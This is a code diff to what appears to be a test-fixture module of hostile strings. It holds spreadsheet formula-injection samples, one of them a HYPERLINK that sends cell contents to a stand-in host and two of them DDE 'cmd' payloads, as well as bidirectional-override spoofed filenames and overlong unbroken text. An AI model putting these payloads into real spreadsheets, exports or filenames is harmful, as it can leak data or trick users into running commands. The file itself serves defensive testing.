@@ -73,7 +73,7 @@ const CODE = [
 ];
 
 /** What a spreadsheet takes for a formula. */
-export const FORMULAS = [
+const FORMULAS = [
   `=HYPERLINK("https://hostile.example?"&A1,"Open")`,
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
@@ -91,10 +91,14 @@ const SCRIPTS = [
 ];
 
 /** What turns the direction of all that follows, unless it is kept apart. */
-const TURNING = ["invoice\u202Egnp.exe", "\u2067\u202Dturned \u202E\u2066again", "end of \u2069it\u202Ell"];
+export const TURNING = [
+  "invoice\u202Egnp.exe",
+  "\u2067\u202Dturned \u202E\u2066again",
+  "end of \u2069it\u202Ell",
+];
 
 /** What has no place to break at. */
-const UNBROKEN = ["W".repeat(90), `https://shop.example/${"a".repeat(400)}`, "ﷺ".repeat(40)];
+export const UNBROKEN = ["W".repeat(90), `https://shop.example/${"a".repeat(300)}`, "ﷺ".repeat(40)];
 
 /** All of them, each once. */
 export const HOSTILE: readonly string[] = [
@@ -116,6 +120,3 @@ export const hostileTo = (length: number) => HOSTILE.filter((text) => [...text].
 export const HOSTILE_NAMES = hostileTo(100).filter(
   (text) => /[\p{L}\p{N}]/u.test(text) && !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(text),
 );
-
-/** How a text looks where white space is one space. */
-export const shown = (text: string) => text.replace(/\s+/g, " ").trim();
